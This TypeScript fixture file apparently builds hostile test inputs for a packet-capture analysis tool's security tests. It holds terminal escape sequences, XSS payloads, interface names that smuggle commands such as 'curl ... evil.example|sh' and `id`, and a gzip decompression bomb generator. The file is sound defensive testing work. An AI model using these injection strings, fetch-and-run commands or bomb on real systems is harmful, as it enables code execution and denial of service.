// Crafted hostile inputs for test/hostile/*.test.ts, written into a temporary folder at test time
// (nothing binary or bomb-like is committed). Every file is built from the seed captures plus
// hostile strings, so the engine still finds its checkpoints and writes next steps that name the
// hostile interface: what those steps, the reports and the terminal make of it is what is tested.
import { mkdtempSync, readFileSync, writeFileSync, createWriteStream } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGzip, constants as zc } from 'node:zlib';
import { once } from 'node:events';
import { readCapture } from '../../shared/capture-file/reader.ts';
import { PcapngWriter, synthesizeFrame } from '../../shared/capture-file/pcapng-writer.ts';
import type { Packet } from '../../shared/protocols/packet.ts';

export const SEEDS = new URL('../../../shared/reference/seed-captures/', import.meta.url);

/** Terminal escapes a capture must never get to the terminal: OSC 0 title, OSC 8 link, clear screen, conceal, C1 CSI, bidi override. */
export const ESCAPES = {
  title: '\x1b]0;pwned-title\x07',
  link: '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  clear: '\x1b[2J',
  conceal: '\x1b[8m',
  c1: '\u009b31m',
  bidi: '\u202e',
};

/** Markup that would act if it reached a Markdown or HTML renderer as markup. */
export const MARKUP = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '<svg/onload=alert(3)>', '![x](https://evil.example/i.png)',
  '[click](javascript:alert(4))', '`` ` ``', '&lt;b&gt;', '| a | b |',
];

/**
 * Interface names (whitespace-free ones fit tcpdump text, where a name is one word; the pcapng ones
 * may hold anything). Each carries the word HOSTILE so a test can find where it ended up.
 */
export const TEXT_IFACE = 'eth1;curl${IFS}evil.example|sh;`id`$(id)<svg/onload=alert(5)>HOSTILE\x1b[8m';
export const PCAPNG_IFACE = `eth1 masquerade; curl -s https://evil.example/x|sh; :${ESCAPES.conceal} <img src=x onerror=alert(6)> HOSTILE ${ESCAPES.title}${ESCAPES.link}${ESCAPES.clear}${ESCAPES.c1}${ESCAPES.bidi}`;
export const COMMENT = `HOSTILE comment\n# heading\n${MARKUP.join(' ')} ${ESCAPES.title}${ESCAPES.clear}`;

export interface Fixtures {
  dir: string;
  /** A's seed, first 8 lines (A1–A4 seen). */
  aText: string;
  /** B: B1–B5 with the LAN side not masqueraded and no answer, LAN interface renamed to TEXT_IFACE. */
  bText: string;
  /** The same two captures as pcapng (rebuilt frames), B's LAN interface named PCAPNG_IFACE, hostile comments. */
  aPcapng: string;
  bPcapng: string;
  /** pcapng whose only interface is named with every terminal escape, for inspect. */
  escapesPcapng: string;
  /** Seed B as text with the escapes in the packet text itself (an HTTP request line), not in a name. */
  escapesText: string;
  /** Text capture lines claiming absurd lengths. */
  hugeLenText: string;
  /** 1 MiB-ish .pcap.gz inflating to 1 GiB (written on first use: it costs ~2 s of CPU). */
  bomb(): Promise<string>;
  /** Notes files: key → path. */
  notes: Record<string, string>;
}

function seed(file: string): string { return readFileSync(new URL(file, SEEDS), 'utf8'); }

/** Seed B cut after B5, with B5 leaving un-masqueraded (so the engine suggests a masquerade rule naming the LAN interface). */
function forwardDropB(iface: string): string {
  const lines = seed('host-beta.txt').split('\n');
  const head = lines.slice(0, 4);
  const body = lines.slice(4, 9).map((l) => l.replace('192.168.200.2.45734 >', '10.0.0.1.45734 >').replace(/ eth1 {2}/, ` ${iface} `));
  return [...head, ...body, ''].join('\n');
}

function forwardDropA(): string { return seed('endpoint-a.txt').split('\n').slice(0, 8).join('\n') + '\n'; }

async function packetsOf(text: string): Promise<Packet[]> {
  const it = readCapture(new TextEncoder().encode(text));
  const out: Packet[] = [];
  for (;;) {
    const r = await it.next();
    if (r.done) return out;
    out.push(...(r.value.packets ?? []));
  }
}

/** Packets from text as pcapng with rebuilt frames; `rename` maps an interface to the name written. */
async function toPcapng(text: string, rename: (iface: string) => string, comment: string): Promise<Uint8Array> {
  const w = new PcapngWriter({ comment });
  const ids = new Map<string, number>();
  for (const p of await packetsOf(text)) {
    const f = synthesizeFrame(p);
    let id = ids.get(p.iface);
    if (id === undefined) { id = w.addInterface({ name: rename(p.iface), description: comment, linktype: f.linktype }); ids.set(p.iface, id); }
    w.addPacket({ ifaceId: id, tsSec: p.tsSec, tsNsec: p.tsNsec, data: f.data, dir: p.dir === 'in' ? 'in' : 'out', comments: [comment] });
  }
  return w.toBytes();
}

/** A seed text capture as pcapng (rebuilt frames), names as they are: a clean start for fuzz mutants. */
export async function seedPcapng(file: string): Promise<Uint8Array> {
  return toPcapng(seed(file), (n) => n, `${file} as pcapng`);
}

async function writeBomb(file: string): Promise<void> {
  // pcap header, then 16384 records of 65535 zero bytes: 1 GiB that deflates ~1000:1.
  const gz = createGzip({ level: zc.Z_BEST_COMPRESSION });
  const out = createWriteStream(file);
  gz.pipe(out);
  const hdr = Buffer.alloc(24);
  hdr.writeUInt32LE(0xa1b2c3d4, 0); hdr.writeUInt16LE(2, 4); hdr.writeUInt16LE(4, 6); hdr.writeUInt32LE(65535, 16); hdr.writeUInt32LE(1, 20);
  gz.write(hdr);
  const rec = Buffer.alloc(16 + 65535);
  rec.writeUInt32LE(1, 0); rec.writeUInt32LE(65535, 8); rec.writeUInt32LE(65535, 12);
  const block = Buffer.concat(Array.from({ length: 16 }, () => rec));
  for (let i = 0; i < 1024; i++) if (!gz.write(block)) await once(gz, 'drain');
  gz.end();
  await once(out, 'finish');
}

export async function makeFixtures(): Promise<Fixtures> {
  const dir = mkdtempSync(join(tmpdir(), 'tandem-hostile-'));
  const put = (name: string, data: string | Uint8Array) => { const f = join(dir, name); writeFileSync(f, data); return f; };
  const aSrc = forwardDropA();
  const bSrc = forwardDropB('eth1');
  const aText = put('a.txt', aSrc);
  const bText = put('b.txt', forwardDropB(TEXT_IFACE));
  const aPcapng = put('a.pcapng', await toPcapng(aSrc, (n) => n, COMMENT));
  const bPcapng = put('b.pcapng', await toPcapng(bSrc, (n) => (n === 'eth1' ? PCAPNG_IFACE : n), COMMENT));
  const escName = Object.values(ESCAPES).join('') + 'HOSTILE';
  const escapesPcapng = put('escapes.pcapng', await toPcapng(seed('host-beta.txt'), () => escName, COMMENT));
  const escapesText = put('escapes.txt', seed('host-beta.txt').replace(/HTTP: GET \/ HTTP\/1\.1/g, `HTTP: GET /${Object.values(ESCAPES).join('')} HTTP/1.1`));
  const hugeLenText = put('huge-length.txt', [
    '12:00:00.000001 IP 10.0.0.1.1000 > 10.0.0.2.2000: UDP, length 2000000000',
    '12:00:00.000002 IP 10.0.0.1.1000 > 10.0.0.2.2000: UDP, length 4294967295',
    '12:00:00.000003 IP 10.0.0.1.1001 > 10.0.0.2.80: Flags [P.], seq 1:2, ack 1, win 1, length 99999999999999999999',
    '12:00:00.000004 IP 10.0.0.1 > 10.0.0.2: ICMP echo request, id 1, seq 1, length 4294967295',
    '',
  ].join('\n'));
  const notes: Record<string, string> = {};
  const note = (target: unknown) => ({ id: 'n', text: `HOSTILE ${MARKUP.join(' ')}`, createdAt: '2026-01-01T00:00:00Z', target });
  for (const [k, frame] of [['1e300', 1e300], ['2^53', 2 ** 53], ['-1', -1], ['string', '7'], ['fraction', 1.5]] as const) {
    notes[k] = put(`notes-${k}.json`, JSON.stringify([note({ kind: 'packet', capture: 'B', frame })]));
  }
  notes['mixed'] = put('notes-mixed.json', JSON.stringify([note({ kind: 'packet', capture: 'A', frame: 1e300 }), note({ kind: 'packet', capture: 'B', frame: 5 })]));
  notes['finding-1e300'] = put('notes-finding.json', JSON.stringify([note({ kind: 'finding', index: 1e300 })]));
  notes['long-label'] = put('notes-label.json', JSON.stringify([note({ kind: 'checkpoint', label: 'B5'.repeat(5000) })]));
  notes['nan'] = put('notes-nan.json', '[{"text":"x","target":{"kind":"packet","capture":"A","frame":NaN}}]');
  notes['hostile'] = put('notes-hostile.json', JSON.stringify([
    { id: 's', text: `${COMMENT}\n> quote\n1. list\n---`, createdAt: `<img src=x onerror=alert(7)>HOSTILE${ESCAPES.clear}`, target: { kind: 'session' } },
    { id: 'p', text: `packet ${MARKUP.join(' ')} HOSTILE`, createdAt: '2026-01-01T00:00:00Z', target: { kind: 'packet', capture: 'B', frame: 5 } },
    { id: 'c', text: 'checkpoint HOSTILE', createdAt: '2026-01-01T00:00:00Z', target: { kind: 'checkpoint', label: '<svg/onload=alert(8)>HOSTILE' } },
    { id: 'f', text: `finding ${MARKUP[0]} HOSTILE`, createdAt: '2026-01-01T00:00:00Z', target: { kind: 'finding', index: 0 } },
  ]));
  let bomb: Promise<string> | undefined;
  return {
    dir, aText, bText, aPcapng, bPcapng, escapesPcapng, escapesText, hugeLenText, notes,
    bomb: () => (bomb ??= (async () => { const f = join(dir, 'bomb.pcap.gz'); await writeBomb(f); return f; })()),
  };
}
